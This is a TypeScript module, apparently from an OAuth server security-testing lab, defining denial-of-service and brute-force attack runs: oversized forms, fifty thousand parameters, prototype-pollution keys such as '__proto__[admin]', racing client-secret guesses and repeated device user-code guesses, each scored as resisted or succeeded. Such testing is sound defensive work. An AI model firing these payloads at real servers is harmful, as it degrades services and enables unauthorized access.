import type { AttackRuns } from '../attack.js';
import { basic } from '../credentials.js';
import type { Lab } from '../lab.js';
import { describeResponse, Inconclusive, NotApplicable, type Outcome, resisted, succeeded } from '../outcome.js';
import { formWith } from '../forms.js';
import type { LabRequest } from '../wire.js';

/** Requests before authentication that cost the server much. RFC 6749 §10.14, OWASP API4:2023 */
export const FLOOD_ATTACKS: AttackRuns = {
  'flood-large-form': (lab) =>
    refuses(lab, { form: { grant_type: 'x'.repeat(5_000_000) } }, 'a form of five megabytes'),
  'flood-many-parameters': (lab) =>
    refuses(
      lab,
      { form: new URLSearchParams(Array.from({ length: 50_000 }, (_, at): [string, string] => [`p${at}`, ''])) },
      'fifty thousand parameters',
    ),
  'flood-nested-form': (lab) =>
    refuses(
      lab,
      {
        body: `grant_type=client_credentials&__proto__[admin]=1&constructor[prototype][x]=1&a${'[b]'.repeat(500)}=1`,
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      },
      'nested parameters',
    ),
  async 'flood-secrets'(lab) {
    const { id } = await lab.client(lab.parts.context.hasUser ? 'web' : 'machine');
    const guesses = lab.race(() =>
      lab.send(lab.urlOf('token'), {
        form: { grant_type: 'client_credentials' },
        headers: { authorization: basic(id, lab.random.next()) },
      }),
    );
    const started = performance.now();
    guesses.catch(() => undefined);
    const response = await lab.send(lab.urlOf('token'), { form: { grant_type: 'x' } });
    const waited = Math.round(performance.now() - started);
    const accepted = (await guesses).find(({ status }) => status < 400);
    if (accepted) return succeeded('a wrong secret was accepted', accepted);
    return response.status < 500
      ? resisted('another request got its response meanwhile')
      : succeeded(`another request waited ${waited} ms for status ${response.status}`, response);
  },
  async 'flood-pushed-requests'(lab) {
    const { parameters } = lab.parametersOf(await lab.client('web'));
    return lab.post('pushed_authorization_request', undefined, parameters);
  },
  async 'flood-user-codes'(lab) {
    const first = await lab.visit(lab.urlOf('device'));
    if (first.page.status >= 500) throw new Inconclusive('the page for devices failed');
    await lab.grant('web').catch(() => undefined);
    const browser = await lab.victim();
    for (let guess = 1; guess <= 30; guess += 1) {
      const page = await browser.open(lab.urlOf('device'));
      const form = formWith(page.text, 'user_code');
      if (!form) throw new NotApplicable('the page for devices has no form with `user_code`');
      const response = await browser.submit(page, form, { user_code: `BCDF${String(guess).padStart(4, 'G')}` });
      if (response.status === 429) return resisted(`guess ${guess} got status 429`);
    }
    return succeeded('30 wrong codes were verified without a limit');
  },
};

async function refuses(lab: Lab, request: LabRequest, what: string): Promise<Outcome> {
  const response = await lab.send(lab.urlOf('token'), request).catch((error: Error) => {
    // The platform may close the connection while the body is still being sent.
    if (/ECONNRESET|EPIPE/.test(error.message)) return undefined;
    throw error;
  });
  const after = await lab.send(lab.urlOf('token'), { form: { grant_type: 'x' } });
  if (after.status >= 500) return succeeded(`after ${what}, the application fails with ${after.status}`, after);
  if (!response) return resisted(`the connection was closed at ${what}`);
  return response.status < 400 || response.status >= 500
    ? succeeded(`${what} got status ${response.status}`)
    : resisted(describeResponse(response));
}
